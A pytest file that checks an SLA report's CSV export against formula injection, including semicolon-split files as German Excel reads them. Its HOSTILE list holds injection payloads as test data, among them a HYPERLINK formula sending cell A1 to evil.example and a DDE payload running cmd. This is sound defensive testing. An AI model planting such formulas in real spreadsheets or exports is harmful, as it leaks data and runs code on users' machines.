"""Finding 6: CSV formula injection in the SLA report when the file is split on `;` (as German
Excel does). Every cell of every export goes through incidents.exports.csv_cell."""

import csv
import io

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st

from incidents.exports import FORMULA_TRIGGERS, csv_cell, csv_write
from tests.escalation.test_sla_report import A_AT, AFTER, open_incident, url

HOSTILE = [
    'Ausfall; =HYPERLINK("https://evil.example/?"&A1;"Details")',
    "Portal;@SUM(1+1)*cmd|' /C calc'!A0",
    "a,+1+2;-3",
    "Leitstand;   =1+1",
    "x\t=2+3",
    "\r=1",
    '=WEBSERVICE("https://evil.example")',
    "Kunde; ;-",
]


def cells_as_split_by(text: str, delimiter: str) -> list[str]:
    """What a spreadsheet makes of the file when it splits on `delimiter` (German Excel: `;`),
    with quotes honoured as Excel does, and leading spaces trimmed as some importers do."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell.lstrip(" ") for row in rows for cell in row]


def formula_cells(text: str) -> list[str]:
    """Cells that start with a trigger and hold more than white space (a lone line break, as
    a line end inside an unbalanced quote gives, runs nothing)."""
    found = []
    for delimiter in (",", ";", "\t"):
        found += [
            c
            for c in cells_as_split_by(text, delimiter)
            if c.strip(" \t\r\n") and c[0] in FORMULA_TRIGGERS
        ]
    return found


def test_the_sla_report_csv_has_no_formula_cell_however_it_is_split(
    contract, service, customer, manager, client
):
    for title in HOSTILE:
        open_incident(service, customer, manager, A_AT, title=title)
    client.force_login(manager)
    with time_machine.travel(AFTER, tick=False):
        response = client.get(url("sla_report_csv", customer))
    assert response.status_code == 200
    body = response.content.decode("utf-8").removeprefix("\ufeff")
    assert formula_cells(body) == []
    # Still readable: the comma-separated file gives the titles back, marked as text.
    titles = [row[2] for row in csv.reader(io.StringIO(body))][1:]
    assert "Kunde; ;'-" in titles
    assert '\'=WEBSERVICE("https://evil.example")' in titles


@pytest.mark.parametrize("value", ["0", "12.5", "1200.00", "2026-11-10T10:00:00+01:00", "P1"])
def test_numbers_and_times_stay_as_they_are(value):
    assert csv_cell(value) == value


@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n;, ab1'\""), max_size=12), max_size=4))
def test_no_cell_of_any_row_becomes_a_formula(cells):
    out = io.StringIO()
    csv_write(out, [cells])
    text = out.getvalue()
    assert formula_cells(text) == []
